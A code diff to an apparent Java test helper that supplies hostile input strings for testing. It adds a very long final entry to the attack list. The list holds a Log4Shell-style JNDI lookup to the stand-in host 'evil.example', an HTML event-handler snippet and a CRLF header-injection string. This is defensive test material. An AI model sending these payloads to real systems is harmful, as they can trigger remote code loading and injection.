@@ -3,6 +3,7 @@ package dev.sidelight;
 import java.util.HexFormat;
 import java.util.List;
 import java.util.Random;
+import java.util.stream.Stream;
 
 /** Text that means harm, made up from a seed, and what of it must never be shown. */
 public final class Hostile {
@@ -42,7 +43,7 @@ public final class Hostile {
           "{0}${jndi:ldap://evil.example}",
           "<b onclick=x>&amp;",
           "line\r\nx: y\n\nz",
-          "x".repeat(10_000));
+          "x".repeat(1_500));
 
   private final Random random;
 
@@ -50,9 +51,9 @@ public final class Hostile {
     random = new Random(seed);
   }
 
-  /** {@return texts each of which is one attack} */
+  /** {@return texts each of which is one attack; the last one is very long} */
   public static List<String> attacks() {
-    return ATTACKS;
+    return Stream.concat(ATTACKS.stream(), Stream.of("y".repeat(10_000))).toList();
   }
 
   /** {@return the next text; now and then it is harmless} */
